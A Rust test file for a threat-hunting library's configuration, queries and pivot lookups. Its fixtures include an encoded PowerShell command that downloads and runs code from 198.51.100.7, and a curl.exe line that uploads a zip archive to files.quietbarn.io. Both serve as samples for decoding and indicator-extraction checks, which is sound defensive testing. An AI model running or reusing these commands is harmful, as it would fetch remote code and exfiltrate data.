//! msticpyconfig.yaml drives the provider and the lookups: `QueryDefinitions.Custom`
//! folders join the library, `DataProviders.LocalData.data_paths` picks the tables, a
//! local TI provider answers `ti_lookup` pivots. (One test: it sets `MSTICPYCONFIG`
//! for the whole process.)
#![allow(clippy::unwrap_used)]

use data::entities::{Dns, Entity, IpAddress, Process, Url};
use data::polars::prelude::*;
use data::{Pivot, QueryProvider};

fn text(df: &DataFrame, column: &str) -> Vec<String> {
    df.column(column)
        .unwrap()
        .cast(&DataType::String)
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .map(|v| v.unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn settings_reach_queries_tables_and_lookups() {
    let dir = std::env::temp_dir().join(format!("huntrs-provider-settings-{}", std::process::id()));
    let queries = dir.join("queries");
    let tables = dir.join("tables");
    std::fs::create_dir_all(&queries).unwrap();
    std::fs::create_dir_all(&tables).unwrap();
    std::fs::write(
        queries.join("watch.yaml"),
        "metadata:\n  version: 1\n  description: Watched hosts\n  data_environments: [LocalData]\n  data_families: [Watch]\n\
         sources:\n  by_host:\n    description: Rows of one host\n    args:\n      query: 'Watch | where Host == \"{host_name}\"'\n    parameters:\n      host_name: {description: Host name, type: str}\n",
    )
    .unwrap();
    std::fs::write(
        tables.join("Watch.csv"),
        "Host,Owner\nsrv-fs01,finance\nws-031,sales\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("intel.csv"),
        "Ioc,IocType,Severity,Details,Reference\n185.220.214.37,ipv4,high,Known C2,case-42\n",
    )
    .unwrap();
    let config = dir.join("msticpyconfig.yaml");
    std::fs::write(
        &config,
        format!(
            "QueryDefinitions:\n  Custom:\n    - {}\nDataProviders:\n  LocalData:\n    data_paths:\n      - {}\n\
             TIProviders:\n  CaseIntel:\n    Args:\n      Path: {}\n    Provider: LocalData\n",
            queries.display(),
            tables.display(),
            dir.join("intel.csv").display()
        ),
    )
    .unwrap();
    // SAFETY: this test binary has one test, so no other thread reads the environment.
    unsafe { std::env::set_var("MSTICPYCONFIG", &config) };

    let mut qp = QueryProvider::new("LocalData").unwrap();
    assert_eq!(qp.source(), tables.display().to_string());
    assert!(qp.list_queries().names().contains(&"Watch.by_host"));
    let rows = qp
        .query("Watch.by_host")
        .param("host_name", "srv-fs01")
        .run()
        .unwrap();
    assert_eq!(text(&rows, "Owner"), ["finance"]);
    // No default week outside the sample dataset.
    assert!(qp.time_range().is_none());

    // Lookups through the pivot API.
    let ip: Entity = IpAddress::new("185.220.214.37".parse().unwrap()).into();
    let ti = ip.pivot(&mut qp).lookup("ti_lookup").unwrap();
    assert_eq!(text(&ti, "Severity"), ["high"]);
    assert_eq!(text(&ti, "Provider"), ["CaseIntel"]);
    let kind = ip.pivot(&mut qp).lookup("ip_type").unwrap();
    assert_eq!(text(&kind, "IpType"), ["Public"]);
    let err = ip
        .pivot(&mut qp)
        .lookup("b64decode")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("not a lookup of a IpAddress") && err.contains("geoip"),
        "{err}"
    );

    let dns: Entity = Dns {
        domain_name: Some("store.quietbarn.io".into()),
        ..Default::default()
    }
    .into();
    let check = dns.pivot(&mut qp).lookup("domain_validate").unwrap();
    assert_eq!(text(&check, "Registrable"), ["quietbarn.io"]);
    let url: Entity = Url {
        url: Some("https://cdn.kestrelsync.net:8443/wp/update.ps1?x=1".into()),
        ..Default::default()
    }
    .into();
    let parts = url.pivot(&mut qp).lookup("url_components").unwrap();
    assert_eq!(text(&parts, "Host"), ["cdn.kestrelsync.net"]);
    assert_eq!(text(&parts, "Port"), ["8443"]);
    let process: Entity = Process {
        command_line: Some("powershell -enc SQBFAFgAIAAoAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACkA".into()),
        ..Default::default()
    }
    .into();
    let decoded = process.pivot(&mut qp).lookup("b64decode").unwrap();
    assert!(
        text(&decoded, "decoded_string")[0].contains("198.51.100.7"),
        "{decoded}"
    );
    // The encoded command line holds no indicator in clear; a plain one does.
    let encoded = process.pivot(&mut qp).lookup("extract_iocs").unwrap();
    assert_eq!(encoded.height(), 0, "{encoded}");
    let upload: Entity = Process {
        command_line: Some(
            "curl.exe -T c:\\temp\\q.zip https://files.quietbarn.io/u 198.51.100.7".into(),
        ),
        ..Default::default()
    }
    .into();
    let iocs = upload.pivot(&mut qp).lookup("extract_iocs").unwrap();
    let found: std::collections::BTreeSet<(String, String)> = text(&iocs, "IoCType")
        .into_iter()
        .zip(text(&iocs, "Observable"))
        .collect();
    for expected in [
        ("url", "https://files.quietbarn.io/u"),
        ("ipv4", "198.51.100.7"),
        ("dns", "files.quietbarn.io"),
    ] {
        assert!(
            found.contains(&(expected.0.to_string(), expected.1.to_string())),
            "{expected:?} not in {found:?}"
        );
    }
    std::fs::remove_dir_all(&dir).ok();
}
